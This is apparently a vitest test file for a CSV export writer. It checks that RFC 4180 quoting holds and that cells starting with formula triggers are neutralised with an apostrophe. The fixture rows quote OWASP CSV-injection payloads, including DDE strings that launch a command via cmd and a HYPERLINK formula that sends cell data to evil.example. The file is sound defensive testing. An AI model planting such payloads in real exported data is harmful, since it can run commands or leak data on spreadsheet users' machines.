import { readFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { parseCsv } from '#analysis/parse-csv.ts'
import { csvRecord, neutraliseFormula, toCsv, type CsvValue } from '#app/utils/csv.ts'

const fixture = (...parts: string[]) => path.resolve('tests/fixtures', ...parts)

// OWASP "CSV Injection" payloads and the awkward characters RFC 4180 quoting must survive.
const OWASP_ROWS: Array<[string, CsvValue, string]> = [
  ['formula equals', "=cmd|' /C calc'!A0", 'OWASP DDE'],
  ['hyperlink', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'quotes doubled'],
  ['plus', "+1+cmd|' /C calc'!A0", ''],
  ['minus', "-2+3+cmd|' /C calc'!A0", ''],
  ['at', "@SUM(1+1)*cmd|' /C calc'!A0", ''],
  ['tab', '\t=1+1', ''],
  ['carriage return', '\r=1+1', ''],
  ['line feed', '\n=1+1', ''],
  ['NUL', '\0=1+1', ''],
  ['comma and quote', 'a, "quoted" word', 'not a trigger'],
  [
    'inner CRLF',
    'first line\r\n=second line',
    'a formula after a line break inside a field stays inside the quoted field',
  ],
  ['Welsh and emoji', 'Gwasanaeth â gwên 😊', ''],
  ['number', -0.125, 'numbers are not prefixed'],
  ['empty', null, ''],
]

describe('CSV writer (RFC 4180, formula-injection safe)', () => {
  it('writes the golden file byte for byte: BOM, every field quoted, CRLF, OWASP payloads prefixed', () => {
    const written = Buffer.from(toCsv(['case', 'value', 'note'], OWASP_ROWS, { bom: true }), 'utf8')
    const golden = readFileSync(fixture('exports', 'golden-owasp.csv'))
    expect(written.toString('hex')).toBe(golden.toString('hex'))
  })

  it('parses back with the RFC 4180 parser to the original text, with a leading apostrophe on every trigger', () => {
    const parsed = parseCsv(toCsv(['case', 'value', 'note'], OWASP_ROWS, { bom: true }))
    expect(parsed[0]).toEqual(['case', 'value', 'note'])
    expect(parsed).toHaveLength(OWASP_ROWS.length + 1)
    OWASP_ROWS.forEach(([name, value], i) => {
      const cell = parsed[i + 1]![1]!
      const text = value === null ? '' : String(value)
      if (typeof value === 'string' && /^[=+\-@\t\r\n\0]/.test(value)) {
        expect(cell, name).toBe(`'${text}`)
      } else {
        expect(cell, name).toBe(text)
      }
    })
  })

  it('never lets a cell start with a formula trigger, whatever the text', () => {
    const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\0']
    for (const t of triggers) {
      for (const rest of ['', '1', 'SUM(A1)', ' x']) {
        const out = neutraliseFormula(t + rest)
        expect(triggers).not.toContain(out[0])
        expect(out.slice(1)).toBe(t + rest)
      }
    }
    expect(neutraliseFormula('plain')).toBe('plain')
    expect(neutraliseFormula("'already")).toBe("'already")
  })

  it('writes no BOM unless asked, and keeps numbers at full precision', () => {
    const text = toCsv(['p'], [[0.1 + 0.2], [1e-12], [Number.NaN]])
    expect(text.charCodeAt(0)).toBe('"'.charCodeAt(0))
    expect(
      parseCsv(text)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(['0.30000000000000004', '1e-12', ''])
    expect(csvRecord([true, undefined, 'x'])).toBe('"true","","x"\r\n')
  })

  it('round-trips the oracle fixture: 1,800 respondents, comments starting with = + - @ neutralised and nothing else changed', () => {
    const source = parseCsv(readFileSync(fixture('oracle-public', 'responses.csv'), 'utf8'))
    const [header, ...rows] = source
    const written = toCsv(header!, rows, { bom: true })
    expect(written.startsWith('\uFEFF"respondent_id",')).toBe(true)
    expect(written.endsWith('\r\n')).toBe(true)
    // every record terminator is CRLF (no bare LF outside quoted fields in this fixture)
    expect(written.split('\r\n').length - 1).toBe(source.length)
    const parsed = parseCsv(written)
    expect(parsed).toHaveLength(1801)
    expect(parsed[0]).toEqual(header)
    const commentColumn = header!.indexOf('comment')
    const neutralised: string[] = []
    rows.forEach((row, r) => {
      row.forEach((value, c) => {
        const back = parsed[r + 1]![c]!
        if (/^[=+\-@\t\r\n\0]/.test(value)) {
          neutralised.push(back)
          expect(back).toBe(`'${value}`)
        } else {
          expect(back).toBe(value)
        }
      })
    })
    // the fixture's four hostile comments, each now inert text
    expect(neutralised.map((v) => v.slice(0, 2)).sort()).toEqual(["'+", "'-", "'=", "'@"])
    expect(
      parsed.some((row) => row[commentColumn] === "'=SUM(A1:A10) is what the bill should have been"),
    ).toBe(true)
  })
})
